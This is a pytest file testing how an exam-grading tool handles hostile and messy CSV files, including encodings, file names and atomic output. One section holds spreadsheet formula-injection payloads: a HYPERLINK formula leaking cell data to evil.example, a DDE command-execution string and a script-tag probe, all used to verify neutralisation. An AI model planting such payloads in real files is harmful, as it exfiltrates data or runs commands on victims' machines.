"""``dlexam grade`` on hostile and messy files (issue 11, points 5-10).

The exam holds the source instances of conv_shape (1a 8x8x5, 1b 6375, 1c 5x26x7x7) and rnn_relu
(2a 0, 2b 3/2, 2c 1, 2d 3/2, 2e 1, 2f 0) in two variants, so every key is known.
"""

from __future__ import annotations

import codecs
import csv
import io
import os
from pathlib import Path

import pytest

from generator import formatting
from generator.spreadsheet import csv_text
from grader import output
from grader.feedback import file_names
from grader.part import grade_part
from tests.cli_run import generate_keys, run
from tests.keyparts import key_part

SPEC = """title: Safety test
course: DL
seed: 3
variants: 2
questions:
  - {family: conv_shape, source: true}
  - {family: rnn_relu, source: true}
"""
LABELS = ["1a", "1b", "1c", "2a", "2b", "2c", "2d", "2e", "2f"]
RIGHT = ["8x8x5", "6375", "5x26x7x7", "0", "3/2", "1", "3/2", "1", "0"]
HEADER = ["student_id", "variant", *LABELS]


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return generate_keys(tmp_path_factory.mktemp("exam"), SPEC)


def csv_bytes(rows: list[list[str]], delimiter: str = ",", encoding: str = "utf-8") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    return buffer.getvalue().encode(encoding)


def grade(keys: Path, folder: Path, data: bytes, *extra: str) -> tuple[int, str, str, Path]:
    answers = folder / "answers.csv"
    answers.write_bytes(data)
    out = folder / "graded"
    code, stdout, stderr = run("grade", str(keys), str(answers), "--out", str(out), *extra)
    return code, stdout, stderr, out


def records(path: Path) -> list[list[str]]:
    """The file as Python's csv module reads it, strictly (bad quoting raises)."""
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle, strict=True))


def table(path: Path) -> list[dict[str, str]]:
    rows = records(path)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def snapshot(folder: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()
    }


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.parent.iterdir() if p.name.startswith("."))


# -- 5. crashes -------------------------------------------------------------------------------
@pytest.mark.parametrize("variant", ["²", "①", "٣"])
def test_a_unicode_digit_as_variant_is_a_row_in_errors_csv(
    keys: Path, tmp_path: Path, variant: str
) -> None:
    rows = [HEADER, ["s1", variant, *RIGHT], ["s2", "2", *RIGHT]]
    code, stdout, stderr, out = grade(keys, tmp_path, csv_bytes(rows))
    assert code == 0, stderr
    assert "2 rows read: 1 graded (1 students in scores.csv), 1 in errors.csv" in stdout
    (error,) = table(out / "errors.csv")
    assert error["student_id"] == "s1" and f"unknown variant {variant!r}" in error["reason"]
    assert table(out / "scores.csv")[0]["variant"] == "V002"  # "2" still means V002


@pytest.mark.parametrize("length", [252, 255, 300, 5000])
def test_a_student_id_too_long_for_a_file_name_gets_a_short_unique_name(
    keys: Path, tmp_path: Path, length: int
) -> None:
    long_ids = ["x" * length, "x" * (length - 1) + "y"]
    rows = [HEADER, *([student, "V001", *RIGHT] for student in long_ids)]
    code, _, stderr, out = grade(keys, tmp_path, csv_bytes(rows))
    assert code == 0, stderr
    index = table(out / "feedback" / "index.csv")
    assert [entry["student_id"] for entry in index] == long_ids
    names = [entry["file"] for entry in index]
    assert len(set(names)) == 2 and all(len(name.encode()) <= 80 for name in names)
    for entry in index:
        text = (out / "feedback" / entry["file"]).read_text(encoding="utf-8")
        assert f"Student {entry['student_id']}, variant V001" in text


def test_out_that_is_a_file_is_a_one_line_error(keys: Path, tmp_path: Path) -> None:
    (tmp_path / "answers.csv").write_bytes(csv_bytes([HEADER, ["s1", "V001", *RIGHT]]))
    taken = tmp_path / "taken"
    taken.write_text("mine", encoding="utf-8")
    code, _, err = run("grade", str(keys), str(tmp_path / "answers.csv"), "--out", str(taken))
    assert code == 2 and err.startswith("error: ") and err.count("\n") == 1
    assert "is a file, not a folder" in err and taken.read_text(encoding="utf-8") == "mine"


def test_out_under_a_missing_parent_is_a_one_line_error(keys: Path, tmp_path: Path) -> None:
    (tmp_path / "answers.csv").write_bytes(csv_bytes([HEADER, ["s1", "V001", *RIGHT]]))
    target = tmp_path / "missing" / "graded"
    code, _, err = run("grade", str(keys), str(tmp_path / "answers.csv"), "--out", str(target))
    assert code == 2 and err.startswith("error: ") and err.count("\n") == 1
    assert "does not exist" in err and not target.parent.exists()


def test_out_in_an_unwritable_folder_is_a_one_line_error(keys: Path, tmp_path: Path) -> None:
    (tmp_path / "answers.csv").write_bytes(csv_bytes([HEADER, ["s1", "V001", *RIGHT]]))
    target = Path("/sys/dlexam-graded")  # not writable even for root
    code, _, err = run("grade", str(keys), str(tmp_path / "answers.csv"), "--out", str(target))
    assert code == 2 and err.startswith("error: ") and err.count("\n") == 1
    assert "cannot write in /sys" in err


def test_a_folder_holding_other_files_is_refused_not_replaced(keys: Path, tmp_path: Path) -> None:
    out = tmp_path / "graded"
    out.mkdir()
    (out / "notes.txt").write_text("my notes", encoding="utf-8")
    code, _, err, _ = grade(keys, tmp_path, csv_bytes([HEADER, ["s1", "V001", *RIGHT]]))
    assert code == 2 and "files dlexam grade did not write (notes.txt)" in err
    assert (out / "notes.txt").read_text(encoding="utf-8") == "my notes"


# -- 6. formula injection ---------------------------------------------------------------------
PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)"]


def test_formula_cells_are_neutralised_in_every_csv_and_escaped_in_html(
    keys: Path, tmp_path: Path
) -> None:
    rows = [[*HEADER, "name", "email"]]
    rows += [[p, "V001", *RIGHT, p, "\t=1+1"] for p in PAYLOADS]
    rows.append(["-2", "V001", "8x8x6", "-3", *RIGHT[2:], "-2", "\r=2+2"])
    rows.append(["-7", "V001", "8x8x6", "-3", *RIGHT[2:], "<script>alert(1)</script>", "x"])
    rows.append(["=1+1", "V999", *RIGHT, "", ""])
    code, _, stderr, out = grade(keys, tmp_path, csv_bytes(rows))
    assert code == 0, stderr
    scores = table(out / "scores.csv")
    assert [row["student_id"] for row in scores] == [*("'" + p for p in PAYLOADS), "-2", "-7"]
    assert [row["name"] for row in scores[:4]] == [*("'" + p for p in PAYLOADS), "-2"]
    assert {row["email"] for row in scores[:3]} == {"'\t=1+1"}
    assert scores[3]["email"] == "'\r=2+2" and scores[3]["1b_points"] == "0"
    assert table(out / "errors.csv")[0]["student_id"] == "'=1+1"
    index = table(out / "feedback" / "index.csv")
    assert [entry["student_id"] for entry in index][:3] == ["'" + p for p in PAYLOADS]
    wrong = {row["item"]: row["common_wrong_answers"] for row in table(out / "report.csv")}
    assert wrong["1b"] == "'-3 (2)"
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "-3 (2)" in page and "<script>" not in page
    for path in out.rglob("*.csv"):  # no cell anywhere starts a formula, numbers excepted
        for row in records(path):
            for cell in row:
                assert cell[:1] not in "=+@\t\r" or cell == "", (path, cell)


# -- 7. line breaks inside cells --------------------------------------------------------------
def test_a_cr_or_lf_inside_a_cell_round_trips_through_every_csv(keys: Path, tmp_path: Path) -> None:
    rows = [[*HEADER, "note"]]
    rows.append(["a\rb", "V001", *RIGHT, "line one\rline two"])
    rows.append(["c\nd", "V001", *RIGHT, 'say "hi",\r\nbye'])
    rows.append(["e\rf", "V404", *RIGHT, ""])
    code, _, stderr, out = grade(keys, tmp_path, csv_bytes(rows))
    assert code == 0, stderr
    scores = table(out / "scores.csv")
    assert [(r["student_id"], r["note"]) for r in scores] == [
        ("a\rb", "line one\rline two"),
        ("c\nd", 'say "hi",\r\nbye'),
    ]
    assert [e["student_id"] for e in table(out / "errors.csv")] == ["e\rf"]
    assert [e["student_id"] for e in table(out / "feedback" / "index.csv")] == ["a\rb", "c\nd"]
    for path in out.rglob("*.csv"):
        data = path.read_bytes().decode("utf-8")
        parsed = records(path)
        assert all(len(row) == len(parsed[0]) for row in parsed), path
        # as a spreadsheet splits records: CRLF ends every one, any other break sits in quotes
        outside = data.split('"')[::2]
        assert all(
            "\r" not in piece.replace("\r\n", "") and "\n" not in piece.replace("\r\n", "")
            for piece in outside
        ), path


# -- 8. feedback file names and clashing columns ----------------------------------------------
def test_windows_device_names_trailing_dots_and_spaces_get_safe_unique_names(
    keys: Path, tmp_path: Path
) -> None:
    ids = ["CON", "NUL", "COM1", "lpt9.txt", "aux", "anna.", "anna. .", "anna", "Anna", "../x"]
    rows = [HEADER, *([student, "V001", *RIGHT] for student in ids)]
    code, _, stderr, out = grade(keys, tmp_path, csv_bytes(rows))
    assert code == 0, stderr
    index = table(out / "feedback" / "index.csv")
    assert [entry["student_id"] for entry in index] == ids
    names = [entry["file"] for entry in index]
    assert names[7] == "anna.txt"  # a safe id keeps its own name
    assert len({name.lower() for name in names}) == len(ids)
    for name in names:
        stem = name.removesuffix(".txt")
        assert stem.split(".")[0].upper() not in {"CON", "NUL", "COM1", "LPT9", "AUX"}
        assert not stem.endswith((".", " ")) and "/" not in stem
    assert sorted(p.name for p in (out / "feedback").iterdir()) == sorted([*names, "index.csv"])


def test_file_names_drop_trailing_spaces_and_dots_and_keep_safe_ids() -> None:
    names = file_names(["anna ", "anna. ", "anna", "CON ", "x" * 300, "s-1_b.2"])
    assert names[2] == "anna.txt" and names[5] == "s-1_b.2.txt"
    assert all(not n.removesuffix(".txt").endswith((" ", ".")) for n in names)
    assert len({n.lower() for n in names}) == 6 and max(len(n) for n in names) <= 68
    assert file_names(["anna "]) == [names[0]]  # the same id always gets the same name


def test_input_columns_named_like_output_columns_are_renamed(keys: Path, tmp_path: Path) -> None:
    rows = [[*HEADER, "Grade", "total", "1a_points", "email"]]
    rows.append(["s1", "V001", *RIGHT, "B+", "99", "7", "s1@example.org"])
    code, _, stderr, out = grade(keys, tmp_path, csv_bytes(rows))
    assert code == 0
    header = records(out / "scores.csv")[0]
    assert header[-4:] == ["Grade (input)", "total (input)", "1a_points (input)", "email"]
    assert len({name.lower() for name in header}) == len(header)
    row = table(out / "scores.csv")[0]
    assert (row["grade"], row["Grade (input)"], row["total (input)"]) == ("A", "B+", "99")
    assert "input column 'Grade' is written as 'Grade (input)'" in stderr


# -- 9. atomic output -------------------------------------------------------------------------
ROWS = [HEADER, ["s1", "V001", *RIGHT], ["s2", "V002", *RIGHT]]
NEW_ROWS = [HEADER, ["s3", "V001", *RIGHT]]


@pytest.mark.parametrize("fail_after", [0, 1, 3])
def test_a_write_failing_midway_leaves_the_previous_output(
    keys: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fail_after: int
) -> None:
    code, _, _, out = grade(keys, tmp_path, csv_bytes(ROWS))
    assert code == 0
    before = snapshot(out)
    written: list[str] = []
    real_write = output._write_file

    def failing_write(path: str, text: str) -> None:
        if len(written) == fail_after:
            raise OSError(28, "No space left on device")
        written.append(path)
        real_write(path, text)

    monkeypatch.setattr(output, "_write_file", failing_write)
    code, _, err, _ = grade(keys, tmp_path, csv_bytes(NEW_ROWS))
    assert code == 2 and err.startswith("error: ") and "No space left on device" in err
    assert snapshot(out) == before
    assert leftovers(out) == []


def test_a_failure_while_swapping_puts_the_previous_output_back(
    keys: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    code, _, _, out = grade(keys, tmp_path, csv_bytes(ROWS))
    before = snapshot(out)
    real_replace = os.replace
    calls = []

    def failing_replace(source: Path, target: Path) -> None:
        calls.append(target)
        if len(calls) == 2:  # the staged folder taking the output's name
            raise OSError(5, "Input/output error")
        real_replace(source, target)

    monkeypatch.setattr(output.os, "replace", failing_replace)
    code, _, err, _ = grade(keys, tmp_path, csv_bytes(NEW_ROWS))
    assert code == 2 and "Input/output error" in err
    assert snapshot(out) == before and leftovers(out) == []


def test_a_killed_run_is_cleaned_up_by_the_next_one(keys: Path, tmp_path: Path) -> None:
    code, _, _, out = grade(keys, tmp_path, csv_bytes(ROWS))
    stale = tmp_path / ".graded.grade-k1ll3d"  # killed while writing
    (stale / "feedback").mkdir(parents=True)
    (stale / "scores.csv").write_text("half", encoding="utf-8")
    old_style = out / ".grade-0ld"  # what versions before 0.4 left inside the folder
    old_style.mkdir()
    (old_style / "scores.csv").write_text("x" * 100_000, encoding="utf-8")
    code, _, err, _ = grade(keys, tmp_path, csv_bytes(NEW_ROWS))
    assert code == 0, err
    assert leftovers(out) == [] and not old_style.exists()
    assert [row["student_id"] for row in table(out / "scores.csv")] == ["s3"]


def test_a_run_killed_between_the_renames_gets_its_previous_output_back(
    keys: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    code, _, _, out = grade(keys, tmp_path, csv_bytes(ROWS))
    before = snapshot(out)
    os.replace(out, tmp_path / ".graded.previous-k1ll3d")  # the output stepped aside, then kill

    def failing_write(path: str, text: str) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(output, "_write_file", failing_write)
    code, _, _, _ = grade(keys, tmp_path, csv_bytes(NEW_ROWS))
    assert code == 2 and snapshot(out) == before and leftovers(out) == []


# -- 10. messy but readable files -------------------------------------------------------------
def test_messy_spreadsheet_exports_are_read_with_warnings(keys: Path, tmp_path: Path) -> None:
    lines = [
        "",
        ";;",
        "student_id;variant;" + ";".join(LABELS) + ";;",  # `1b;;`: empty header columns
        "s1;V001;" + ";".join(RIGHT) + ";;",
        "s2;V001;8x8x5;6375",  # the trailing empty cells left out
        "s3;V002;" + ";".join(RIGHT),
    ]
    code, stdout, stderr, out = grade(keys, tmp_path, "\r\n".join(lines).encode())
    assert code == 0, stderr
    assert "3 rows read: 3 graded (3 students in scores.csv), 0 in errors.csv" in stdout
    assert "blank lines above the header skipped; the header is line 3" in stderr
    assert "2 empty column(s) after the last header '2f' ignored" in stderr
    assert "line(s) 5 have fewer fields than the header" in stderr
    scores = table(out / "scores.csv")
    assert [row["percent"] for row in scores] == ["100.0", "30.0", "100.0"]
    assert scores[1]["1c_status"] == "blank"


def test_a_cp1252_file_from_excel_on_windows_is_read_with_a_warning(
    keys: Path, tmp_path: Path
) -> None:
    rows = [[*HEADER, "name"], ["s1", "V001", *RIGHT, "Jürgen Müller – Ø"]]
    code, _, stderr, out = grade(keys, tmp_path, csv_bytes(rows, ";", encoding="cp1252"))
    assert code == 0, stderr
    assert "read as Windows-1252" in stderr
    assert table(out / "scores.csv")[0]["name"] == "Jürgen Müller – Ø"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be"])
def test_excel_unicode_text_utf16_with_tabs_is_read(
    keys: Path, tmp_path: Path, encoding: str
) -> None:
    """Excel's "Unicode Text" export; its header was read as 'ÿþs\x00t\x00...' before."""
    rows = [[*HEADER, "name"], ["s1", "V001", *RIGHT, "Jürgen Müller – Ø"]]
    data = csv_bytes(rows, "\t", encoding=encoding)
    if encoding == "utf-16-be":
        data = codecs.BOM_UTF16_BE + data
    code, _, stderr, out = grade(keys, tmp_path, data)
    assert code == 0 and not stderr, stderr
    assert table(out / "scores.csv")[0]["name"] == "Jürgen Müller – Ø"
    assert table(out / "scores.csv")[0]["percent"] == "100.0"


def test_a_quote_never_closed_does_not_swallow_the_next_students(
    keys: Path, tmp_path: Path
) -> None:
    """``s1,V001,"8x8x5`` made the rest of the file one cell: s2 and s3 were lost silently."""
    lines = [",".join(HEADER), 's1,V001,"8x8x5'] + [f"s{n},V001," + ",".join(RIGHT) for n in (2, 3)]
    code, stdout, stderr, out = grade(keys, tmp_path, "\n".join(lines).encode())
    assert code == 0, stderr
    assert "line 2: a quote opens a cell that is never closed" in stderr
    assert "3 rows read: 3 graded" in stdout
    scores = table(out / "scores.csv")
    assert [row["student_id"] for row in scores] == ["s1", "s2", "s3"]
    assert scores[0]["1a_status"] == "correct" and scores[2]["percent"] == "100.0"


def test_part_columns_as_people_label_them(keys: Path, tmp_path: Path) -> None:
    """``Q1b``, ``1 b``, ``1C)``, ``Question 2a`` name the parts (they were extra columns and
    the parts were graded blank); two columns for one part are refused."""
    spelled = ["1a", "Q1b", "1 c", "2A)", "Question 2b", "2.c", "2(d)", "Teil 2e", "q2f"]
    rows = [["student_id", "variant", *spelled], ["s1", "V001", *RIGHT]]
    code, _, stderr, out = grade(keys, tmp_path, csv_bytes(rows))
    assert code == 0 and not stderr, stderr
    assert table(out / "scores.csv")[0]["percent"] == "100.0"
    rows = [[*HEADER, "Q1b"], ["s1", "V001", *RIGHT, "6375"]]
    (tmp_path / "twice").mkdir()
    code, _, stderr, _ = grade(keys, tmp_path / "twice", csv_bytes(rows))
    assert code == 2 and "columns 1b, Q1b all name part 1b" in stderr


def test_a_file_neither_utf8_nor_cp1252_is_refused(keys: Path, tmp_path: Path) -> None:
    data = csv_bytes([HEADER, ["s1", "V001", *RIGHT]]) + b"\x81\x8d\xff\xfe"
    code, _, err, out = grade(keys, tmp_path, data)
    assert code == 2 and "not UTF-8 text" in err and not out.exists()


def test_the_shared_csv_writer_neutralises_formulas_and_quotes_a_lone_cr() -> None:
    """generator.spreadsheet writes every CSV dlexam makes (the answer template and the grader's
    files): a roster id like =HYPERLINK("x") is text, a CR inside a cell is quoted."""
    text = csv_text([["student_id", "note"], ['=HYPERLINK("x")', "a\rb"], ["-2", "+1.5e3"]])
    assert text == ('student_id,note\r\n"\'=HYPERLINK(""x"")","a\rb"\r\n-2,+1.5e3\r\n')
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["student_id", "note"],
        ['\'=HYPERLINK("x")', "a\rb"],
        ["-2", "+1.5e3"],
    ]


def test_an_answer_that_cannot_be_written_back_is_unreadable(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Feedback shows every answer as read; an answer whose reading cannot be written out (a
    printer's recursion on a pathological expression) is unreadable, never an error that stops
    the grading of the whole file."""

    def recursing(value: object) -> str:
        raise RecursionError

    part = key_part("expression", "2*w - 1", (), symbols=["w"])
    monkeypatch.setattr(formatting, "exact_string", recursing)
    result = grade_part(part, "2*w - 1 + 0*w*w*w")  # a text no earlier test has read
    assert result.status == "invalid" and "RecursionError" in result.reason
